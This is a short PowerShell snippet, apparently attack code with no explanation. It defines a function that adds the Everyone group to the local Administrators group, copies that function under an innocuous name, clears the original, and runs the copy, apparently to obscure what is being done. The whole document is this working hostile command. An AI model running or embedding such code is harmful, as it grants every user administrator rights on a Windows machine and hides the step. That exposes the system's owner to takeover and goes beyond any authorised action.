function Add-Admin { Add-LocalGroupMember Administrators Everyone }
Set-Item function:Add-Other (Get-Item function:Add-Admin)
Clear-Item function:Add-Admin
Add-Other
